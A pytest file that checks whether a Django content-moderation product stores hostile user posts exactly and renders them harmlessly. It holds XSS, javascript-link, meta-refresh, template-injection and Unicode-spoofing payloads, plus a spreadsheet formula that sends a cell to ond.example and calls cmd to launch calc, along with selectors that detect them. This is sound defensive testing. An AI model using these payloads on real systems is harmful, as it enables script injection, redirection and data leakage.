"""Whatever somebody writes comes in through the real server, harms nobody who reads it, and is kept exactly."""

import json
import re
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path

import httpx
import pytest
from django.test import Client
from django.urls import reverse
from playwright.sync_api import Page
from pytest_django import Settings

from kanalvakt.collection import actions as collection
from kanalvakt.collection.models import Item, Outcome
from kanalvakt.core import blobs
from kanalvakt.core.actor import Actor, migration, person, system
from kanalvakt.moderation import actions as moderation
from kanalvakt.moderation.models import Decision
from kanalvakt.organisation.models import User
from kanalvakt.outbox import canon
from kanalvakt.outbox.actions import evidence
from kanalvakt.outbox.models import Evidence
from kanalvakt.practice.server import Practice
from kanalvakt.register import actions as register
from kanalvakt.register.models import Channel
from kanalvakt.registration import actions as registration
from kanalvakt.rulebook import actions as rulebook
from kanalvakt.screening import actions as screening
from kanalvakt.supervision.models import Case
from tests.browser import assert_no_sideways_scroll, login

TOKEN = "nyckel-till-ovningsplatsen"
WORD = "fientlighetsprov"  # stands in each, so that a search finds all of them
TEXTS = {
    "script": "<script>document.title='tagen'; alert(1)</script><svg onload=alert(2)><img src=x onerror=alert(3)>",
    "attribute": '" onmouseover="alert(4)" autofocus x="\'></title></textarea><script>alert(6)</script>',
    "address": "<a href='javascript:alert(7)'>vinn</a> javascript:alert(8) <base href='https://ond.example/'>",
    "elsewhere": "<meta http-equiv=refresh content='0;url=https://ond.example/'><iframe src=//ond.example></iframe>",
    "right to left": "\u202eneterbra \u2067\u2066 aldrig stängd \u202d",
    "zero width": "id\u200bi\u200cot\u2060 \ufeff\u00ad\u200e\U000e0041",
    "megabyte": "Det här tar aldrig slut. " * 42_000,
    "one long word": "å" * 60_000,
    "emoji": "👩‍👩‍👧‍👦🏳️‍🌈🤦🏽‍♀️" * 400,
    "accents": "Z" + "\u0335\u0321\u0340" * 2000,
    "surrogates": "före \ud800 mitt i \udfff efter \ud83d",
    "controls": "noll\x00tecken \x07\x1b[31mrött\x1b[0m \x85\u2028rad\r\nrad",
    "template": "{{ request.user }} {% csrf_token %} ${7*7} #{7*7} {{ 7|add:7 }}",
    "formula": '=HYPERLINK("https://ond.example/?"&A1;"klicka") @SUM(1+1)*cmd|\' /C calc\'!A0 -2+3',
}
# What must never stand as itself on a page: it would turn the text around, or hide in it.
TRICKS = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2060-\u2069\ufeff\ud800-\udfff]"
)
HARM = (
    "script:not([src]), img[src='x'], svg[onload], base, iframe, meta[http-equiv], "
    "[onmouseover], [autofocus], a[href^='javascript']"
)


@dataclass
class Said:
    """What was written, as item of the product and as the platform's own words."""

    text: str
    item: Item
    sent: bytes


@pytest.fixture
def said(tmp_path: Path, settings: Settings, channel: Channel, anna: User, olof: User) -> Iterator[dict[str, Said]]:
    """Each text by a sender of the same name, collected by the product from the platform's server."""
    rulebook.load(migration("test"))
    for user in (anna, olof):
        rulebook.accept(person(user.pk))
    with Practice(tmp_path / "practice.sqlite3", TOKEN) as practice:
        settings.EGRESS_ALLOW = [practice.url.removeprefix("http://")]
        outside = httpx.Client(base_url=practice.url, headers={"Authorization": f"Bearer {TOKEN}"}, trust_env=False)
        with outside:
            keys = outside.post("/admin/seed", content=_seed()).raise_for_status().json()["keys"]
            sent = outside.get("/api/v1/pages/bjorkskolan/items", params={"limit": "100"}).content
        Channel.objects.update(address=f"{practice.url}/bjorkskolan")
        register.connect(channel.pk, {"token": TOKEN}, actor=migration("test"))
        run = collection.sync(channel.pk, complete=True, actor=system("test"))
        assert (run.outcome, run.unread) == (Outcome.OK, 0), run.error_message
        while screening.screen_pending(100):
            pass
        slices = {item["id"]: json.dumps(item).encode() for item in json.loads(sent)["items"]}
        assert all(one in sent for one in slices.values())
        items = {item.platform_id: item for item in Item.objects.select_related("version")}
        yield {name: Said(_text(name), items[keys[name]], slices[keys[name]]) for name in TEXTS}


def _text(name: str) -> str:
    return f"{TEXTS[name]} {WORD}"


def _seed() -> bytes:
    page = {"handle": "bjorkskolan", "name": "Björkskolan"}
    said = [
        {"key": name, "page": "bjorkskolan", "author": text[:150], "text": _text(name), "minutes_ago": 9}
        for name, text in TEXTS.items()
    ]
    return json.dumps({"pages": [page], "items": said}).encode("ascii")


@pytest.fixture
def removed(said: dict[str, Said], as_anna: Actor) -> dict[str, Said]:
    """Each is preserved, handed to the registrar, and its removal ordered."""
    for one in said.values():
        evidence.preserve(one.item, actor=as_anna)
    items = [one.item.pk for one in said.values()]
    board = said["script"].item.channel.unit.board
    registration.request(items, board=board, reason="handed_in", title="Prov av text", actor=as_anna)
    done = moderation.remove(items, rule_id="G1.5.9.angrepp", reason="Prov", actor=as_anna)
    assert not done.failed
    return said


@pytest.mark.django_db
def test_it_is_kept_byte_by_byte_and_evidence_holds_the_exact_text(said: dict[str, Said], as_anna: Actor) -> None:
    for name, one in said.items():
        version = one.item.version
        assert version, name
        assert version.raw, name
        assert blobs.read(version.raw) == one.sent, name
        kept = evidence.preserve(one.item, actor=as_anna)
        assert kept.raw, name
        assert blobs.read(kept.raw) == one.sent, name
        document = canon.restored(json.loads(blobs.read(kept.canonical)))
        told = document["version"]
        assert told.get("text_as_given", told["text"]) == one.text, name
        assert document["raw"]["size"] == len(one.sent), name


@pytest.mark.browser
def test_it_is_shown_harmless_on_every_page_that_shows_text(
    browser_page: Page, removed: dict[str, Said], anna: User, rut: User
) -> None:
    harmless = Harmless(browser_page)
    login(browser_page, anna)
    for one in removed.values():
        pages = [
            reverse("supervision:case", args=[Case.objects.get(item=one.item).pk]),
            f"{reverse('moderation:remove')}?item={one.item.pk}",
            reverse("moderation:secrecy", args=[one.item.pk]),
            reverse("moderation:decision", args=[Decision.objects.get(item=one.item).pk]),
            reverse("moderation:evidence", args=[Evidence.objects.get(item=one.item).pk]),
        ]
        for page in pages:
            harmless.open(page)
    inbox = reverse("supervision:inbox")
    lists = [f"{inbox}?state=all", f"{inbox}?state=all&q={WORD}", "/beslut/", "/bevis/", "/atgarder/?state=waiting"]
    for page in lists:
        harmless.open(page)
    login(browser_page, rut)
    harmless.open("/registrering/")
    harmless.open(f"/registrering/{removed['script'].item.registrations.get().pk}/")
    shown = browser_page.locator("main").inner_text()
    assert "<script>document.title='tagen'; alert(1)</script>" in shown
    assert "⟨U+202E⟩neterbra" in shown
    assert "{{ request.user }} {% csrf_token %}" in shown


class Harmless:
    """A window in which nothing that was written may run, hide, turn the page around or push it sideways."""

    def __init__(self, page: Page) -> None:
        self.page = page
        page.on("dialog", lambda dialog: pytest.fail(f"{page.url}: a script ran: {dialog.message}"))

    def open(self, address: str) -> None:
        """Go there and look."""
        answer = self.page.goto(address)
        assert answer
        assert answer.status == 200
        assert self.page.title() != "tagen"
        assert self.page.locator(HARM).count() == 0
        found = TRICKS.findall(self.page.content())
        assert not found, f"{address}: {found[:5]!r}"
        assert self.page.evaluate("getComputedStyle(document.body).direction") == "ltr"
        assert_no_sideways_scroll(self.page)


@pytest.mark.django_db
def test_a_search_finds_each(said: dict[str, Said], anna: User, client: Client) -> None:
    client.force_login(anna)
    page = client.get(reverse("supervision:inbox"), {"q": WORD, "state": "all"}).content.decode()
    for one in said.values():
        assert reverse("supervision:case", args=[Case.objects.get(item=one.item).pk]) in page


@pytest.mark.django_db
def test_what_the_platform_sent_is_handed_out_as_a_file_that_nothing_runs(
    removed: dict[str, Said], anna: User, client: Client
) -> None:
    client.force_login(anna)
    for name, one in removed.items():
        address = reverse("moderation:evidence_raw", args=[Evidence.objects.get(item=one.item).pk])
        sent = client.get(address)
        assert sent.content == one.sent, name
        assert sent["Content-Type"] == "application/octet-stream"
        assert "attachment" in sent["Content-Disposition"]
        assert "sandbox" in sent["Content-Security-Policy"]
